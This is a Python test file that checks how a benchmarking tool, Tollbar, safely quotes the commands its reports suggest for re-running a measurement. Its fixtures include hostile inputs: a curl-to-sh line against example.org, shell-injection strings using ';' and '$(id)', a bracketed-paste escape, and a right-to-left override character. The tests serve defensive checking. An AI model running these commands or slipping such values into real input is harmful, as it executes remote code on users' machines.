"""The report's commands for measuring a run again, and the version that measured it."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from report_example import example
from tollbar import __version__, results
from tollbar.analysis import Judgement
from tollbar.core.files import pasted
from tollbar.report import again
from tollbar.report import page as pages
from tollbar.report.html.page import html

SAME = "The same run, the same order"
NOT_SHOWN = {
    "a shell": ("sh", "-c", "curl http://example.org/x|sh #"),
    "another program": ("./tollbar", "run", "quick"),
    "a command that measures nothing": ("tollbar", "new", "quick.toml"),
    "a command that fetches packages": ("tollbar", "upgrade", "cryptography==36.0.2"),
    "no command": ("tollbar",),
    "an end of the paste": ("tollbar", "run", "quick\x1b[201~\nid\n"),
    "text that is turned around": ("tollbar", "run", "\N{RIGHT-TO-LEFT OVERRIDE}kciuq"),
}


def of(**changed: Any) -> Judgement:
    judged = example()
    return replace(judged, run=replace(judged.run, **changed))


@pytest.mark.parametrize("what", NOT_SHOWN)
def test_only_a_command_of_tollbar_is_shown_to_be_pasted(what: str) -> None:
    assert SAME not in again.commands(of(command=NOT_SHOWN[what]).run)
    assert SAME not in html(pages.page(of(command=NOT_SHOWN[what])))


@pytest.mark.parametrize("name", ["run", "ask", "choose"])
def test_the_command_of_a_run_is_shown_with_its_seed(name: str) -> None:
    assert (
        f"tollbar {name} digests --seed 20261121" == again.commands(of(command=("tollbar", name, "digests")).run)[SAME]
    )
    assert (
        f"tollbar {name} digests --seed=7"
        == again.commands(of(command=("tollbar", name, "digests", "--seed=7")).run)[SAME]
    )


def test_words_of_a_command_stay_words() -> None:
    """No word ends the pasted command early."""
    run = of(command=("tollbar", "run", "x; curl http://example.org/x|sh", "$(id)")).run
    assert "tollbar run 'x; curl http://example.org/x|sh' '$(id)' --seed 20261121" == again.commands(run)[SAME]


def test_a_folder_s_name_ends_no_paste() -> None:
    assert {SAME} == {*again.commands(of(directory=Path("runs/\x1b[201~\nid")).run)}


def test_a_folder_s_name_is_no_option() -> None:
    found = again.commands(of(directory=Path("-runs/--help")).run)
    assert "tollbar judge ./-runs/--help" == found["Judge the same trials again"]
    assert "tollbar judge '/a b/-c'" == f"tollbar judge {pasted('/a b/-c')}"


def test_the_report_names_the_version_that_measured() -> None:
    other = html(pages.page(of(version="0.1.0-other")))
    assert "with Tollbar 0.1.0-other. This page was made with Tollbar " + __version__ in other
    assert "This page was made with" not in html(pages.page(of(version=__version__)))


def test_the_version_is_read_from_the_run(own_run: Path) -> None:
    about = (own_run / "run.json").read_text()
    (own_run / "run.json").write_text(about.replace(f'"tollbar": "{__version__}"', '"tollbar": "0.1.0-other"'))
    assert "0.1.0-other" == results.read(own_run).version
